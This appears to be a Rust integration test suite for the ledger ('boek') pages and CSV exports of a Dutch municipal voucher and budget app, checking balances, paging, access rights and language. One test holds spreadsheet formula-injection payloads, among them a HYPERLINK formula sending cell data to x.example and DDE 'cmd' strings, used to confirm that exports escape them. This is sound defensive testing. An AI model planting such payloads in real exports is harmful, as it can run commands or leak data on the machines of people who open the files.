//! The books: every movement of a year, its running balance, and the same as a file.

use std::collections::BTreeMap;

use chrono::Datelike;
use zelfgekozen::auth::{Role, Viewer};
use zelfgekozen::base::ids::{AccountId, BudgetId, PersonId, RequestId, TransferId, VoucherId};
use zelfgekozen::base::money::Cents;
use zelfgekozen::budgets::{self, Decision, NewBudget};
use zelfgekozen::ledger::{self, Asked, Effects};
use zelfgekozen::vouchers;

use super::support::browser::{Answer, Browser};
use super::support::town::{Town, terms};
use super::support::world::World;

/// An amount as a page or a file writes it: `+ € 1.000,00`, `− € 5,00`, `-5,00`.
fn cents(text: &str) -> i64 {
    let text = text.trim();
    let unsigned = text.trim_start_matches(['+', '−', '-', ' ', '\u{a0}']);
    let amount = Cents::parse(unsigned).unwrap_or_else(|error| panic!("{text}: {error}"));
    match text.starts_with(['−', '-']) {
        true => -amount.0,
        false => amount.0,
    }
}

/// A row of the table: what went in or out, and the balance after it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
struct Row {
    change: i64,
    balance: i64,
}

fn rows(page: &Answer) -> Vec<Row> {
    let column = |number: usize| page.cells(&format!("#boek ~ tbody td:nth-child({number})"));
    let (came_in, went_out, balance) = (column(4), column(5), column(6));
    assert_eq!(came_in.len(), balance.len());
    assert_eq!(went_out.len(), balance.len());
    (0..balance.len())
        .map(|row| Row {
            change: match (came_in[row].as_str(), went_out[row].as_str()) {
                (amount, "") => cents(amount),
                ("", amount) => -cents(amount),
                both => panic!("in and out at once: {both:?}"),
            },
            balance: cents(&balance[row]),
        })
        .collect()
}

/// Words and amount of each figure above the list.
fn figures(page: &Answer) -> Vec<(String, i64)> {
    let words = page.cells(".zg-facts--sums dt");
    let amounts = page.cells(".zg-facts--sums dd");
    assert_eq!(words.len(), amounts.len());
    let amounts = amounts.iter().map(|amount| cents(amount));
    words.into_iter().zip(amounts).collect()
}

/// The rows follow from each other, and from the first figure to the last.
fn adds_up(page: &Answer) -> Vec<Row> {
    let rows = rows(page);
    let figures = figures(page);
    let opening = figures.first().expect("an opening balance").1;
    let closing = figures.last().expect("a closing balance").1;
    let mut balance = opening;
    for row in &rows {
        balance += row.change;
        assert_eq!(row.balance, balance, "{}", page.path);
    }
    assert_eq!(closing, balance, "{}", page.path);
    let moved: i64 = figures[1..figures.len() - 1].iter().map(|f| f.1).sum();
    assert_eq!(opening + moved, closing, "{}", page.path);
    rows
}

/// A file: the names of its columns, and its rows.
fn read(file: &Answer) -> (Vec<String>, Vec<Vec<String>>) {
    file_is_told(file);
    let text = file.body.strip_prefix('\u{feff}').expect("a mark");
    assert!(text.ends_with("\r\n") && !text.replace("\r\n", "").contains('\n'));
    let mut rows = csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|row| row.expect("a row").iter().map(str::to_owned).collect())
        .collect::<Vec<Vec<String>>>();
    (rows.remove(0), rows)
}

fn file_is_told(file: &Answer) {
    file.is(200);
    assert_eq!(file.headers["content-type"], "text/csv; charset=utf-8");
    assert_eq!(file.headers["cache-control"], "no-store");
    let name = file.headers["content-disposition"].to_str().unwrap();
    assert!(name.starts_with("attachment; filename=\"boek-"), "{name}");
    assert!(name.ends_with(".csv\""), "{name}");
}

fn rows_of(file: &Answer) -> Vec<Row> {
    let (_, rows) = read(file);
    rows.iter()
        .map(|row| Row {
            change: cents(&row[6]),
            balance: cents(&row[7]),
        })
        .collect()
}

/// A year in which everything happened once.
struct Year {
    town: Town,
    controller: PersonId,
}

async fn pay(town: &Town, voucher: VoucherId, cents: i64) -> TransferId {
    let asked = town.ask(voucher, cents).await.unwrap();
    let lead = town.viewer(town.team[0]).await;
    let paid =
        vouchers::confirm_redemption(&town.world.db.app, &lead, asked, town.world.now()).await;
    paid.unwrap().transfer.expect("money moved")
}

async fn account(world: &World, kind: &str) -> AccountId {
    let id = sqlx::query_scalar(
        "select min(account_id) from ledger.account where municipality_id = $1 and kind::text = $2",
    )
    .bind(world.here.id.0)
    .bind(kind)
    .fetch_one(&world.db.owner)
    .await
    .unwrap();
    AccountId(id)
}

fn asked<'a>(who: &Viewer, effects: &'a Effects) -> Asked<'a> {
    Asked {
        municipality: who.municipality,
        request: RequestId::new(),
        actor: who.person,
        effects,
    }
}

impl Year {
    async fn new() -> Year {
        let town = Town::with(terms(), Cents(1_234_56)).await;
        let world = &town.world;
        let controller = world.staff("Cas", Role::Controller).await;
        let none = Effects::none();
        let again = |who: &Viewer| asked(who, &none);
        // paid in two parts, of which one is taken back
        let one = town.voucher(500).await;
        pay(&town, one, 123_45).await;
        let wrong = pay(&town, one, 1_00).await;
        ledger::reverse(&world.db.app, again(&controller), wrong)
            .await
            .unwrap();
        // half used and then stopped; a payment from it is taken back after that
        let other = town.voucher(400).await;
        let late = pay(&town, other, 77_77).await;
        let lead = town.viewer(town.team[0]).await;
        let mut tx = world.db.app.begin().await.unwrap();
        vouchers::cancel(&mut tx, &lead, other, RequestId::new(), world.now())
            .await
            .unwrap();
        tx.commit().await.unwrap();
        ledger::reverse(&world.db.app, again(&controller), late)
            .await
            .unwrap();
        let organisation = account(world, "organisation").await;
        let budget = account(world, "budget").await;
        let funding = account(world, "funding").await;
        let (back, out) = (Cents(100_01), Cents(50_00));
        ledger::give_back(
            &world.db.app,
            again(&controller),
            organisation,
            budget,
            back,
        )
        .await
        .unwrap();
        ledger::give_back(&world.db.app, again(&controller), budget, funding, out)
            .await
            .unwrap();
        Year {
            controller: controller.person,
            town,
        }
    }

    fn slug(&self) -> &str {
        &self.town.organisation.slug
    }

    async fn board(&self) -> Browser {
        self.town.world.browser(self.town.board[0]).await
    }

    async fn staff(&self) -> Browser {
        self.town.world.browser(self.controller).await
    }

    /// The three books, each with who reads it.
    async fn books(&self) -> Vec<(&'static str, String, Browser)> {
        let own = format!("/organisatie/{}/boek", self.slug());
        let theirs = format!("/gemeente/organisaties/{}/boek", self.slug());
        let list = |path: &str| format!("{path}?lijst=vouchers");
        vec![
            ("budget", "/gemeente/boek".to_owned(), self.staff().await),
            ("organisation", own.clone(), self.board().await),
            ("organisation", theirs.clone(), self.staff().await),
            ("voucher", list(&own), self.board().await),
            ("voucher", list(&theirs), self.staff().await),
        ]
    }

    /// Straight from the ledger: what moved in or out of accounts of this kind, in order.
    async fn moved(&self, kind: &str) -> Vec<i64> {
        sqlx::query_scalar(
            "select case a.account_id when m.credit_id then m.amount_cents else -m.amount_cents end
               from ledger.account a
               join ledger.movement m on m.municipality_id = a.municipality_id and a.account_id in (m.debit_id, m.credit_id)
              where a.municipality_id = $1 and a.kind::text = $2 order by m.transfer_id",
        )
        .bind(self.town.world.here.id.0)
        .bind(kind)
        .fetch_all(&self.town.world.db.owner)
        .await
        .unwrap()
    }

    async fn balance(&self, kind: &str) -> i64 {
        sqlx::query_scalar(
            "select sum(balance_cents)::bigint from ledger.account where municipality_id = $1 and kind::text = $2",
        )
        .bind(self.town.world.here.id.0)
        .bind(kind)
        .fetch_one(&self.town.world.db.owner)
        .await
        .unwrap()
    }
}

fn with(path: &str, part: &str) -> String {
    let glue = if path.contains('?') { '&' } else { '?' };
    format!("{path}{glue}{part}")
}

fn as_file(path: &str) -> String {
    path.replacen("/boek", "/boek.csv", 1)
}

#[tokio::test]
async fn every_figure_of_a_book_is_the_ledgers_to_the_cent() {
    let year = Year::new().await;
    for (kind, path, mut browser) in year.books().await {
        let page = browser.get(&path).await;
        let rows = adds_up(page.is(200));
        let changes: Vec<i64> = rows.iter().map(|row| row.change).collect();
        assert_eq!(changes, year.moved(kind).await, "{path}");
        let closing = figures(&page).last().unwrap().1;
        assert_eq!(closing, year.balance(kind).await, "{path}");
        // the file has the same rows
        let file = browser.get(&as_file(&path)).await;
        assert_eq!(rows_of(&file), rows, "{path}");
    }
    year.town.world.balanced().await;
}

#[tokio::test]
async fn a_total_opens_the_list_that_adds_up_to_it() {
    let year = Year::new().await;
    let mut seen = BTreeMap::new();
    for (kind, path, mut browser) in year.books().await {
        let page = browser.get(&path).await;
        let all = rows(&page);
        let totals = figures(&page);
        let totals = &totals[1..totals.len() - 1];
        let links: Vec<String> = page
            .links()
            .into_iter()
            .filter(|link| link.contains("soort=") && !link.contains("programma="))
            .collect();
        assert_eq!(links.len(), totals.len(), "{links:?}");
        let mut parts = 0;
        for (link, (words, total)) in links.iter().zip(totals) {
            let part = browser.get(link).await;
            let rows = rows(part.is(200));
            let sum: i64 = rows.iter().map(|row| row.change).sum();
            assert_eq!(sum, *total, "{link}");
            // each with the balance that it has in the whole book
            assert!(rows.iter().all(|row| all.contains(row)), "{link}");
            part.shows(words);
            assert_eq!(rows_of(&browser.get(&as_file(link)).await), rows, "{link}");
            parts += rows.len();
        }
        assert_eq!(parts, all.len(), "{path}");
        seen.insert(kind, totals.len());
    }
    // in all, every kind of movement that there is in a book was looked at
    assert_eq!(
        seen,
        BTreeMap::from([("budget", 4), ("organisation", 4), ("voucher", 4)])
    );
}

#[tokio::test]
async fn each_movement_says_why_and_opens_what_it_belongs_to() {
    let year = Year::new().await;
    for (_, path, mut browser) in year.books().await {
        let page = browser.get(&path).await;
        page.is(200);
        assert!(!page.body.contains('⟦'), "{}", page.words());
        let links: Vec<String> = page
            .links()
            .into_iter()
            .filter(|link| {
                let of_record = ["/vouchers/", "/aanvra", "/budgetten/"];
                of_record.iter().any(|part| link.contains(part))
            })
            .collect();
        assert!(!links.is_empty(), "{path}");
        for link in links {
            browser.get(&link).await.is(200);
        }
    }
    let path = format!("/organisatie/{}/boek", year.slug());
    let mut board = year.board().await;
    let page = board.get(&path).await;
    assert_eq!(page.h1(), "Het boek van Platform Kortendijk");
    page.shows("Budget uit Vitale wijken Gemeente Roosendaal € 1.234,56")
        .shows("Een voucher gegeven Moestuin op het plein € 500,00 € 734,56")
        .shows("Over van een voucher die gestopt is: Moestuin op het plein")
        .shows("Over, en teruggegeven aan de gemeente Gemeente Roosendaal € 100,01");
    // the board that gave the money knows the helper, as on the voucher's page; everybody else reads a kind of help
    let page = board.get(&with(&path, "lijst=vouchers")).await;
    page.shows("Voor Moestuin op het plein: Twee uur meegedacht Hans denkt mee € 123,45")
        .shows("Betaling teruggedraaid, voor Moestuin op het plein: Twee uur meegedacht Hans denkt mee");
    year.town.world.visitor().get("/geld").await.hides("Hans");
}

#[tokio::test]
async fn a_book_goes_on_over_the_end_of_a_year() {
    let year = Year::new().await;
    let world = &year.town.world;
    let then = world.clock.today().year();
    // the first voucher ends meanwhile
    world.pass(400).await;
    ledger::sweep_ended(&world.db.app, world.here.id)
        .await
        .unwrap();
    for (kind, path, mut browser) in year.books().await {
        let before = browser.get(&with(&path, &format!("jaar={then}"))).await;
        adds_up(before.is(200));
        let now = browser.get(&path).await;
        let rows = adds_up(now.is(200));
        assert_eq!(rows.is_empty(), kind == "budget", "{path}");
        let mut balance = figures(&before).last().unwrap().1;
        for other in then + 1..world.clock.today().year() {
            let between = browser.get(&with(&path, &format!("jaar={other}"))).await;
            adds_up(between.is(200));
            assert_eq!(figures(&between)[0].1, balance, "{path}");
            balance = figures(&between).last().unwrap().1;
        }
        assert_eq!(figures(&now)[0].1, balance, "{path}");
        assert_eq!(figures(&now).last().unwrap().1, year.balance(kind).await);
        // a year is chosen by a link
        let links = now.links();
        assert!(
            links
                .iter()
                .any(|link| link.contains(&format!("jaar={then}"))),
            "{links:?}"
        );
    }
    // the days of a year are cut anywhere, and the parts add up
    let (own, mut board) = (
        format!("/organisatie/{}/boek", year.slug()),
        year.board().await,
    );
    let day = world.clock.today();
    let yesterday = day.pred_opt().unwrap();
    let begin = board
        .get(&with(&own, &format!("jaar={}&tot={yesterday}", day.year())))
        .await;
    let end = board.get(&with(&own, &format!("van={day}"))).await;
    adds_up(&begin);
    assert_eq!(adds_up(&end).len(), 1);
    if yesterday.year() == day.year() {
        assert_eq!(figures(&begin).last().unwrap().1, figures(&end)[0].1);
    }
}

#[tokio::test]
async fn each_budget_has_its_own_part_of_the_book() {
    let year = Year::new().await;
    let world = &year.town.world;
    let holder = world.staff("Bo", Role::BudgetHolder).await;
    let controller = world.viewer(year.controller).await;
    let new = NewBudget {
        id: BudgetId::new(),
        name: "Groen".to_owned(),
        year: i16::try_from(world.clock.today().year()).unwrap(),
        amount: Cents(987_65),
    };
    let mut conn = world.conn().await;
    budgets::propose_budget(&mut conn, &holder, &new, world.now())
        .await
        .unwrap();
    let yes = Decision::Approve;
    budgets::decide_budget(&mut conn, &controller, new.id, yes, "", world.now())
        .await
        .unwrap();
    drop(conn);
    let mut staff = year.staff().await;
    let page = staff.get("/gemeente/boek").await;
    let all = adds_up(page.is(200));
    let table = page.cells("#programmas ~ tbody td");
    let table: Vec<i64> = table.iter().map(|cell| cents(cell)).collect();
    // opening, the four kinds, closing: of each budget, and together those of the book
    let (green, vital) = table.split_at(6);
    assert_eq!(green, [0, 987_65, 0, 0, 0, 987_65]);
    assert_eq!(vital.len(), 6);
    for budget in [green, vital] {
        assert_eq!(budget[..5].iter().sum::<i64>(), budget[5]);
    }
    assert_eq!(green[5] + vital[5], all.last().unwrap().balance);
    // a budget's figures open its own book, and each of them the list that adds up to it
    let links: Vec<String> = page
        .links()
        .into_iter()
        .filter(|link| link.contains("programma="))
        .collect();
    assert_eq!(links.len(), 2 + 1 + 4, "{links:?}");
    let mut lines = 0;
    for link in links.iter().filter(|link| !link.contains("soort=")) {
        lines += adds_up(&staff.get(link).await).len();
    }
    assert_eq!(lines, all.len());
    let sums = [green, vital].concat();
    for link in links.iter().filter(|link| link.contains("soort=")) {
        let rows = rows(&staff.get(link).await);
        let sum: i64 = rows.iter().map(|row| row.change).sum();
        assert!(sums.contains(&sum), "{link}: {sum}");
        assert_eq!(rows_of(&staff.get(&as_file(link)).await), rows, "{link}");
    }
}

/// So many vouchers of a euro and some cents, without a plan.
async fn issue_many(town: &Town, number: i32) {
    let world = &town.world;
    let organisation = account(world, "organisation").await;
    sqlx::query(
        "select ledger.issue($1, gen_random_uuid(), $2, 100 + n, ledger.now() + interval '90 days', $3)
           from generate_series(1, $4) n",
    )
    .bind(world.here.id.0)
    .bind(organisation.0)
    .bind(town.board[0].0)
    .bind(number)
    .execute(&world.db.owner)
    .await
    .unwrap();
}

/// All pages of a list, by its own links.
async fn all_pages(browser: &mut Browser, path: &str) -> (Vec<Row>, usize) {
    let (mut all, mut pages) = (Vec::new(), 0);
    let mut next = Some(path.to_owned());
    while let Some(path) = next {
        let page = browser.get(&path).await;
        all.extend(rows(page.is(200)));
        pages += 1;
        next = page.links().into_iter().find(|link| link.contains("na="));
    }
    (all, pages)
}

#[tokio::test]
async fn a_long_book_is_read_page_by_page_with_the_right_balance_on_each() {
    let town = Town::with(terms(), Cents::euros(20_000)).await;
    issue_many(&town, 130).await;
    let mut board = town.world.browser(town.board[0]).await;
    let path = format!("/organisatie/{}/boek", town.organisation.slug);
    let (all, pages) = all_pages(&mut board, &path).await;
    assert_eq!((all.len(), pages), (131, 3));
    let mut balance = 0;
    for row in &all {
        balance += row.change;
        assert_eq!(row.balance, balance);
    }
    let (given, _) = all_pages(&mut board, &with(&path, "soort=given")).await;
    assert_eq!(given, all[1..]);
    // further on, the address of the file is still that of the whole list
    let first = board.get(&path).await;
    let next = first.links().into_iter().find(|link| link.contains("na="));
    let second = board.get(&next.unwrap()).await;
    let file = second
        .links()
        .into_iter()
        .find(|link| link.contains(".csv"));
    assert_eq!(rows_of(&board.get(&file.unwrap()).await), all);
}

#[tokio::test]
async fn a_file_of_many_parts_has_every_row_once() {
    let town = Town::with(terms(), Cents::euros(100_000)).await;
    issue_many(&town, 4_100).await;
    let mut board = town.world.browser(town.board[0]).await;
    let path = format!("/organisatie/{}/boek.csv", town.organisation.slug);
    for (path, number) in [
        (path.clone(), 4_101),
        (with(&path, "soort=given"), 4_100),
        (with(&path, "lijst=vouchers"), 4_100),
    ] {
        let file = board.get(&path).await;
        let (_, rows) = read(&file);
        assert_eq!(rows.len(), number);
        let mut balance = if path.contains("soort") {
            10_000_000
        } else {
            0
        };
        for row in rows_of(&file) {
            balance += row.change;
            assert_eq!(row.balance, balance);
        }
        let numbers: std::collections::BTreeSet<&String> = rows.iter().map(|row| &row[0]).collect();
        assert_eq!(numbers.len(), number);
    }
}

#[tokio::test]
async fn what_people_wrote_is_no_formula_in_a_file() {
    let year = Year::new().await;
    let world = &year.town.world;
    let evil = [
        "=HYPERLINK(\"http://x.example?\"&A1;\"klik\")",
        "+31612345678",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];
    for words in evil {
        for sql in [
            "update initiative set title = $2 where municipality_id = $1",
            "update redemption set what = $2 where municipality_id = $1",
            "update provider set name = $2 where municipality_id = $1",
            "update organisation set name = $2 where municipality_id = $1",
            "update budget set name = $2 where municipality_id = $1",
        ] {
            sqlx::query(sql)
                .bind(world.here.id.0)
                .bind(words)
                .execute(&world.db.owner)
                .await
                .unwrap();
        }
        for (_, path, mut browser) in year.books().await {
            let file = browser.get(&as_file(&path)).await;
            let (_, rows) = read(&file);
            assert!(!rows.is_empty());
            let mut told = 0;
            for cell in rows.iter().flat_map(|row| &row[2..6]) {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{cell:?}"
                );
                told += usize::from(*cell == format!("'{words}"));
            }
            assert!(told > 0, "{words:?} is not in {path}");
            // numbers stay numbers, and days stay days
            for row in &rows {
                assert!(!row[6].starts_with('\'') && row[6].contains(','), "{row:?}");
                assert_eq!(row[1].parse::<chrono::NaiveDate>(), Ok(world.clock.today()));
            }
        }
    }
}

#[tokio::test]
async fn a_file_speaks_the_language_of_the_page() {
    let year = Year::new().await;
    let path = format!("/organisatie/{}/boek.csv", year.slug());
    let mut board = year.board().await;
    let columns = read(&board.get(&path).await).0;
    assert_eq!(
        columns,
        [
            "Nummer",
            "Dag",
            "Wat voor geld",
            "Wat",
            "Met wie",
            "Budget",
            "Bedrag",
            "Stand"
        ]
    );
    board.get("/taal/en?terug=/over").await;
    let file = board.get(&path).await;
    let (columns, rows) = read(&file);
    assert_eq!(
        columns,
        [
            "Number",
            "Day",
            "Kind of money",
            "What",
            "With whom",
            "Budget",
            "Amount",
            "Balance"
        ]
    );
    assert_eq!(rows[0][2], "Got from the municipality");
    assert_eq!(rows[0][6], "1234,56");
    let name = file.headers["content-disposition"].to_str().unwrap();
    let this_year = year.town.world.clock.today().year();
    assert_eq!(
        name,
        format!(
            "attachment; filename=\"boek-{}-{this_year}.csv\"",
            year.slug()
        )
    );
}

#[tokio::test]
async fn the_books_are_found_from_where_the_money_is() {
    let year = Year::new().await;
    let budget: uuid::Uuid = sqlx::query_scalar("select budget_id from budget")
        .fetch_one(&year.town.world.db.owner)
        .await
        .unwrap();
    let of_board = format!("/organisatie/{}/boek", year.slug());
    let of_organisation = format!("/gemeente/organisaties/{}/boek", year.slug());
    let mut board = year.board().await;
    let mut staff = year.staff().await;
    for (page, link) in [
        (format!("/organisatie/{}", year.slug()), of_board.clone()),
        (format!("/organisatie/{}/budget", year.slug()), of_board),
        ("/gemeente".to_owned(), "/gemeente/boek".to_owned()),
        (
            "/gemeente/budgetten".to_owned(),
            "/gemeente/boek".to_owned(),
        ),
        (
            format!("/gemeente/budgetten/{budget}"),
            format!("/gemeente/boek?programma={budget}"),
        ),
        ("/gemeente/boek".to_owned(), of_organisation),
    ] {
        let browser = match page.starts_with("/gemeente") {
            true => &mut staff,
            false => &mut board,
        };
        let answer = browser.get(&page).await;
        let links = answer.is(200).links();
        assert!(links.contains(&link), "{page}: {links:?}");
        browser.get(&link).await.is(200);
    }
    // who does not work with money finds no link, and no book
    let guide = year.town.world.staff("Gea", Role::Guide).await;
    let mut guide = year.town.world.browser(guide.person).await;
    let links = guide.get("/gemeente").await.links();
    assert!(!links.contains(&"/gemeente/boek".to_owned()), "{links:?}");
    guide.get("/gemeente/boek").await.is(403);
}

#[tokio::test]
async fn a_budget_of_others_is_in_no_book() {
    let year = Year::new().await;
    let world = &year.town.world;
    let budget: uuid::Uuid = sqlx::query_scalar("select budget_id from budget")
        .fetch_one(&world.db.owner)
        .await
        .unwrap();
    let own = format!("/organisatie/{}/boek", year.slug());
    let mut board = year.board().await;
    let part = format!("programma={budget}");
    let unknown = format!("programma={}", uuid::Uuid::nil());
    for path in [own.clone(), as_file(&own)] {
        board.get(&with(&path, &part)).await.is(200);
        board.get(&with(&path, &unknown)).await.is(404);
    }
    // at another municipality the same budget is not there, and its book has nothing of ours
    let person = world.person_at(&world.elsewhere, "Cor").await;
    let mut conn = world.conn().await;
    zelfgekozen::auth::grant_role(
        &mut conn,
        world.elsewhere.id,
        person,
        Role::Controller,
        None,
        None,
        world.now(),
    )
    .await
    .unwrap();
    drop(conn);
    let mut there = world.browser_at(&world.elsewhere, person).await;
    let book = there.get("/gemeente/boek").await;
    book.is(200)
        .shows("Er is niets gebeurd met het geld")
        .hides("Kortendijk");
    assert!(read(&there.get("/gemeente/boek.csv").await).1.is_empty());
    for path in [
        with("/gemeente/boek", &part),
        with("/gemeente/boek.csv", &part),
        format!("/gemeente/organisaties/{}/boek", year.slug()),
        format!("/gemeente/organisaties/{}/boek.csv", year.slug()),
    ] {
        there.get(&path).await.is(404);
    }
}
